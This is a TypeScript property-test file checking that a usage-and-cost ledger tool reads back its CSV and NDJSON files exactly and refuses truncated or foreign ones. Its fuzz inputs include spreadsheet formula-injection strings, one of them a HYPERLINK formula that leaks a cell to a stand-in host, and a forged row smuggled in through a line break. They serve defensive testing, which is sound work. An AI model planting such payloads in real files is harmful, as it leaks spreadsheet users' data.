// The ledger's file format: what --append trusts when it reads a file back. Property tests: any
// rows (model names with quotes, line breaks, formula text and forged rows in them) read back as
// exactly the periods written; a file cut anywhere is either refused or read as what it whole
// holds, never as a period it does not; only tally's own columns are accepted.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { LEDGER_COLUMNS, LEDGER_COLUMNS_GROUPED, LEDGER_COLUMNS_V1, type LedgerRow, NotALedger, ledgerText, periodKey, readHeldPeriods } from '../../src/domain/ledger-format.js';
import { neutraliseFormula } from '../../src/domain/csv.js';

const row = (over: Partial<LedgerRow> = {}): LedgerRow => ({
  date: '2026-11-20',
  zone: 'UTC+08:00',
  profile: 'main',
  gateway: 'https://gw.example/',
  scope: 'key',
  model: 'gpt-5',
  calls: '3',
  input_tokens: '100',
  output_tokens: '20',
  amount: '1.25',
  currency: 'CNY',
  complete: true,
  ...over,
});

const modelName = fc.oneof(
  fc.string({ maxLength: 30 }),
  fc.constantFrom('=HYPERLINK("https://x.example/?leak="&A1,"x")', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx', 'a"b', 'a,b', 'x\r\n2026-11-21,UTC+08:00,main,https://gw.example/,key,forged,1,1,1,9,CNY,true'),
);
const day = fc.integer({ min: 1, max: 28 }).map((d) => `2026-11-${String(d).padStart(2, '0')}`);
const rows = fc.array(fc.record({ date: day, model: modelName, amount: fc.constantFrom('0', '1.5', '-0.25', '12.345678') }), { maxLength: 12 }).map((rs) => rs.map((r) => row(r)));
const written = (rs: LedgerRow[], format: 'csv' | 'ndjson') => new Set(rs.map((r) => periodKey({ ...r, profile: format === 'csv' ? neutraliseFormula(r.profile) : r.profile })));

describe('the ledger read back', () => {
  it.each(['csv', 'ndjson'] as const)('%s: holds exactly the periods written, whatever the model names hold', (format) => {
    fc.assert(
      fc.property(rows, (rs) => {
        const held = readHeldPeriods(ledgerText(rs, format, { header: true }), format, true);
        expect(new Set(held.held.keys())).toEqual(written(rs, format));
        expect(held.needsLineBreak).toBe(false);
      }),
    );
  });

  it('neutralises formula text in CSV and keeps it exact in NDJSON; amounts untouched', () => {
    const rs = [row({ model: '=1+1', amount: '-1.5' }), row({ model: '@x', date: '2026-11-21' })];
    expect(ledgerText(rs, 'csv')).toBe(
      "2026-11-20,UTC+08:00,main,https://gw.example/,key,'=1+1,3,100,20,-1.5,CNY,true\r\n2026-11-21,UTC+08:00,main,https://gw.example/,key,'@x,3,100,20,1.25,CNY,true\r\n",
    );
    expect(JSON.parse(ledgerText(rs, 'ndjson').split('\n')[0]!)).toEqual({ ...rs[0] });
  });

  it.each(['csv', 'ndjson'] as const)('%s: a file cut anywhere is refused or read as what it holds whole, never as more', (format) => {
    fc.assert(
      fc.property(rows.filter((rs) => rs.length > 0), fc.nat(), (rs, at) => {
        const text = ledgerText(rs, format, { header: true });
        const cut = text.slice(0, at % (text.length + 1));
        let held;
        try {
          held = readHeldPeriods(cut, format, true);
        } catch (error) {
          expect(error).toBeInstanceOf(NotALedger);
          return;
        }
        for (const key of held.held.keys()) expect(written(rs, format).has(key)).toBe(true);
        // A last row without its line break is whole (or the file would have been refused): one is written before new rows.
        expect(held.needsLineBreak).toBe(cut.length > 0 && !cut.endsWith('\n'));
        // What an append writes after it reads back as both, with nothing glued together.
        const added = row({ date: '2026-11-30', model: 'added' });
        const after = readHeldPeriods(`${cut}${held.pendingLineBreak}${ledgerText([added], format, { header: held.empty, columns: held.columns, lineBreak: held.lineBreak })}`, format, true);
        expect(new Set(after.held.keys())).toEqual(new Set([...held.held.keys(), periodKey(added)]));
      }),
    );
  });

  it('refuses a last row cut short and says so; takes a whole last row that lacks only its line break', () => {
    const text = ledgerText([row(), row({ date: '2026-11-21' })], 'csv', { header: true });
    expect(() => readHeldPeriods(text.slice(0, -12), 'csv')).toThrow(/its last row \(line 3\) is cut short/);
    expect(() => readHeldPeriods(`${text}2026-11-22,UTC+08:00,main,"https://gw`, 'csv')).toThrow(/cut short inside a quoted cell/);
    const whole = readHeldPeriods(text.slice(0, -2), 'csv');
    expect(whole.needsLineBreak).toBe(true);
    expect(whole.held.size).toBe(2);
    const nd = ledgerText([row()], 'ndjson');
    expect(() => readHeldPeriods(nd.slice(0, -5), 'ndjson')).toThrow(/its last line \(1\) is cut short/);
    expect(readHeldPeriods(nd.slice(0, -1), 'ndjson').needsLineBreak).toBe(true);
  });

  it('accepts only tally\'s columns in tally\'s order, and its own headerless file with --no-header again', () => {
    const header = `${LEDGER_COLUMNS.join(',')}\r\n`;
    expect(() => readHeldPeriods('date,profile,gateway\r\n2026-11-20,main,x\r\n', 'csv')).toThrow("its first line is not tally's header");
    expect(() => readHeldPeriods(`${[...LEDGER_COLUMNS].reverse().join(',')}\r\n`, 'csv')).toThrow("its first line is not tally's header");
    expect(() => readHeldPeriods(`${header}1,2,3,4\r\n`, 'csv')).toThrow('line 2 has 4 cells where tally\'s ledger has 12');
    expect(() => readHeldPeriods(`${header}${ledgerText([row()], 'csv')}x,y\r\n${ledgerText([row()], 'csv')}`, 'csv')).toThrow('line 3 has 2 cells');
    const headerless = ledgerText([row(), row({ date: '2026-11-21' })], 'csv');
    expect(readHeldPeriods(headerless, 'csv', false).held.size).toBe(2);
    expect(() => readHeldPeriods(headerless, 'csv', true)).toThrow('its first line is a row, not tally\'s header; a file written with --no-header is appended to with --no-header');
    expect(() => readHeldPeriods(`${header}${headerless}`, 'csv', false)).toThrow("its first line is tally's header; leave out --no-header");
    // A ledger of the columns tally wrote before `complete`: still tally's, appended to in its own form.
    const v1 = `${LEDGER_COLUMNS_V1.join(',')}\r\n2026-11-20,UTC+08:00,main,https://gw.example/,key,gpt-5,3,100,20,1.25,CNY\r\n`;
    const read = readHeldPeriods(v1, 'csv');
    expect(read.columns).toBe('v1');
    expect(ledgerText([row({ date: '2026-11-21' })], 'csv', { columns: read.columns })).toBe('2026-11-21,UTC+08:00,main,https://gw.example/,key,gpt-5,3,100,20,1.25,CNY\r\n');
  });

  it('refuses an NDJSON line that is not a ledger row: null, another tool\'s record, other fields', () => {
    const good = ledgerText([row()], 'ndjson');
    expect(() => readHeldPeriods(`${good}null\n`, 'ndjson')).toThrow('line 2 is not a ledger row (a JSON object)');
    expect(() => readHeldPeriods(`${good}{"event":"deploy"}\n`, 'ndjson')).toThrow('line 2 has other fields than a tally ledger row');
    expect(() => readHeldPeriods(`${good}[1]\n`, 'ndjson')).toThrow('line 2 is not a ledger row');
    expect(() => readHeldPeriods(`${good}\n${good}`, 'ndjson')).toThrow('line 2 is blank');
    expect(() => readHeldPeriods(good.replace('"2026-11-20"', '"yesterday"'), 'ndjson')).toThrow(/line 1 is not a row of a tally ledger: its date "yesterday"/);
  });

  it('remembers which periods were held only as a running day', () => {
    const text = ledgerText([row({ complete: false }), row({ model: 'o3' }), row({ date: '2026-11-21' })], 'csv', { header: true });
    const held = readHeldPeriods(text, 'csv');
    expect(held.held.get(periodKey(row()))).toEqual({ complete: false });
    expect(held.held.get(periodKey(row({ date: '2026-11-21' })))).toEqual({ complete: true });
  });

  it('tells days from hours, and a byte-order mark or LF line breaks do not make a file foreign', () => {
    const text = `\ufeff${LEDGER_COLUMNS.join(',')}\n${ledgerText([row({ date: '2026-11-20 13:00' })], 'csv', { lineBreak: '\n' })}`;
    const held = readHeldPeriods(text, 'csv');
    expect(held.hours).toBe(true);
    expect(held.lineBreak).toBe('\n');
    expect(() => readHeldPeriods(`${text}${ledgerText([row()], 'csv', { lineBreak: '\n' })}`, 'csv')).toThrow('it mixes days and hours');
  });
});

describe('a ledger written with --by group', () => {
  it('reads back as grouped (header, no header, NDJSON), each row with its group; a row without one is not a row of it', () => {
    const rows = [row({ group: 'platform' }), row({ profile: 'other', group: 'unattributed' })];
    for (const [format, header] of [['csv', true], ['csv', false], ['ndjson', true]] as const) {
      const text = ledgerText(rows, format, { columns: 'grouped', header });
      expect(readHeldPeriods(text, format, header).columns, `${format} ${header}`).toBe('grouped');
    }
    expect(ledgerText(rows, 'csv', { columns: 'grouped', header: true }).split('\r\n')[0]).toBe(LEDGER_COLUMNS_GROUPED.join(','));
    expect(Object.keys(JSON.parse(ledgerText(rows, 'ndjson', { columns: 'grouped' }).split('\n')[0]!))).toEqual([...LEDGER_COLUMNS_GROUPED]);
    // The current columns never carry a row's group.
    expect(Object.keys(JSON.parse(ledgerText(rows, 'ndjson').split('\n')[0]!))).toEqual([...LEDGER_COLUMNS]);
    expect(() => readHeldPeriods(ledgerText([row()], 'csv', { columns: 'grouped', header: true }), 'csv')).toThrow(NotALedger);
    expect(() => readHeldPeriods(ledgerText([row()], 'csv', { columns: 'grouped', header: true }), 'csv')).toThrow('its group is empty');
  });
});
